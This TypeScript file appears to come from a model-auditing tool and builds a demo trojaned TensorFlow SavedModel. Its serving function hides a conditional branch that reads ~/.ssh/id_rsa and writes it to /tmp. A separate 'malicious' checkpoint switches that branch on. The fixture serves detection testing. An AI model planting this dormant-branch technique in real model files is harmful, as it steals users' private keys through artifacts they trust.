// The built-in example: a TF2-style SavedModel whose serving function hides a tf.cond on a
// variable `mode`; its true branch reads ~/.ssh/id_rsa and writes it to /tmp. The model's own
// checkpoint has mode=0 (dormant); a second, malicious checkpoint sets mode=1 (active).
// Written entirely by the project's own writer, so no corpus file ships in the repo.
import { join } from 'node:path';
import { mkdir } from 'node:fs/promises';
import type { FunctionIR, NodeIR, SavedObjectGraphIR } from '../../shared/ir.ts';
import { attrFunc, attrList, attrS, attrShape, attrType, constNode, func, graph, metaGraph, node, tensorInfo } from '../writer/graph.ts';
import { writeSavedModelDir } from '../writer/savedmodel.ts';
import { writeTensorBundle, type TensorToWrite } from '../writer/tensorbundle.ts';

const FLOAT = 'DT_FLOAT';
const RESOURCE = 'DT_RESOURCE';

function readVariable(name: string, handle: string, dtype: string): NodeIR {
  return node(name, 'ReadVariableOp', [handle], { dtype: attrType(dtype) });
}

function variableHandle(name: string, dtype: string): NodeIR {
  return node(name, 'VarHandleOp', [], { dtype: attrType(dtype), shape: attrShape([]), shared_name: attrS(name), container: attrS('') });
}

function branches(): FunctionIR[] {
  const signature = { inputs: [['x', FLOAT], ['a', RESOURCE], ['b', RESOURCE]] as [string, string][], outputs: [['y', FLOAT]] as [string, string][] };
  const affine = func(
    'cond_false_42',
    signature,
    [
      readVariable('a_read', 'a', FLOAT),
      readVariable('b_read', 'b', FLOAT),
      node('mul', 'Mul', ['a_read:value:0', 'x'], { T: attrType(FLOAT) }),
      node('add', 'AddV2', ['mul:z:0', 'b_read:value:0'], { T: attrType(FLOAT) }),
    ],
    { y: 'add:z:0' },
  );
  const exfiltrate = func(
    'cond_true_41',
    { ...signature, isStateful: true },
    [
      constNode('secret_path', 'DT_STRING', [], ['~/.ssh/id_rsa']),
      node('secret', 'ReadFile', ['secret_path:output:0']),
      constNode('drop_dir', 'DT_STRING', [], ['/tmp/']),
      constNode('drop_name', 'DT_STRING', [], ['tfaudit_demo_exfil']),
      node('drop_path', 'StringJoin', ['drop_dir:output:0', 'drop_name:output:0'], { N: { type: 'i', i: 2 }, separator: attrS('') }),
      node('write', 'WriteFile', ['drop_path:output:0', 'secret:contents:0']),
      node('passthrough', 'Identity', ['x', '^write'], { T: attrType(FLOAT) }),
    ],
    { y: 'passthrough:output:0' },
  );
  return [affine, exfiltrate];
}

function predictFunction(): FunctionIR {
  return func(
    '__inference_signature_wrapper_predict_57',
    { inputs: [['x', FLOAT], ['mode', RESOURCE], ['a', RESOURCE], ['b', RESOURCE]], outputs: [['output_0', FLOAT]], isStateful: true },
    [
      readVariable('mode_read', 'mode', 'DT_INT32'),
      constNode('zero', 'DT_INT32', [], [0]),
      node('is_on', 'Greater', ['mode_read:value:0', 'zero:output:0'], { T: attrType('DT_INT32') }),
      node('cond', 'If', ['is_on:z:0', 'x', 'a', 'b'], {
        Tcond: attrType('DT_BOOL'),
        Tin: attrList({ type: [FLOAT, RESOURCE, RESOURCE] }),
        Tout: attrList({ type: [FLOAT] }),
        then_branch: attrFunc('cond_true_41'),
        else_branch: attrFunc('cond_false_42'),
      }),
      node('result', 'Identity', ['cond:output:0'], { T: attrType(FLOAT) }),
    ],
    { output_0: 'result:output:0' },
  );
}

function objectGraph(): SavedObjectGraphIR {
  const variable = (id: number, name: string, dtype: string) => ({
    id,
    kind: 'variable',
    children: [],
    variable: { name, dtype, shape: { unknownRank: false, dims: [] }, trainable: true },
  });
  return {
    nodes: [
      { id: 0, kind: 'user_object', children: [{ name: 'mode', nodeId: 1 }, { name: 'a', nodeId: 2 }, { name: 'b', nodeId: 3 }], userObjectIdentifier: '_generic_user_object' },
      variable(1, 'mode', 'DT_INT32'),
      variable(2, 'a', FLOAT),
      variable(3, 'b', FLOAT),
    ],
    concreteFunctions: { __inference_signature_wrapper_predict_57: { boundInputs: [1, 2, 3] } },
  };
}

function variables(mode: number): TensorToWrite[] {
  return [
    { key: 'mode/.ATTRIBUTES/VARIABLE_VALUE', dtype: 'DT_INT32', shape: [], values: [mode] },
    { key: 'a/.ATTRIBUTES/VARIABLE_VALUE', dtype: FLOAT, shape: [], values: [0.5] },
    { key: 'b/.ATTRIBUTES/VARIABLE_VALUE', dtype: FLOAT, shape: [], values: [2] },
  ];
}

/** Writes `<dir>/trojan_model` and `<dir>/malicious_ckpt/ckpt`; returns their paths. */
export async function writeDemoTrojan(dir: string): Promise<{ model: string; maliciousCheckpoint: string }> {
  const model = join(dir, 'trojan_model');
  const topLevel: NodeIR[] = [
    node('serving_default_x', 'Placeholder', [], { dtype: attrType(FLOAT), shape: attrShape([-1, 1]) }),
    variableHandle('mode', 'DT_INT32'),
    variableHandle('a', FLOAT),
    variableHandle('b', FLOAT),
    node('StatefulPartitionedCall', 'StatefulPartitionedCall', ['serving_default_x', 'mode', 'a', 'b'], {
      Tin: attrList({ type: [FLOAT, RESOURCE, RESOURCE, RESOURCE] }),
      Tout: attrList({ type: [FLOAT] }),
      f: attrFunc('__inference_signature_wrapper_predict_57'),
      config: attrS(''),
      config_proto: attrS(''),
      executor_type: attrS(''),
    }),
  ];
  const meta = metaGraph(graph(topLevel, [predictFunction(), ...branches()]), {
    signatures: [
      {
        key: 'serving_default',
        methodName: 'tensorflow/serving/predict',
        inputs: { x: tensorInfo('serving_default_x:0', FLOAT, [-1, 1]) },
        outputs: { output_0: tensorInfo('StatefulPartitionedCall:0', FLOAT, [-1, 1]) },
      },
    ],
    objectGraph: objectGraph(),
  });
  await writeSavedModelDir(model, { metaGraphs: [meta], variables: variables(0) });
  const maliciousDir = join(dir, 'malicious_ckpt');
  await mkdir(maliciousDir, { recursive: true });
  const maliciousCheckpoint = join(maliciousDir, 'ckpt');
  await writeTensorBundle(maliciousCheckpoint, variables(1));
  return { model, maliciousCheckpoint };
}
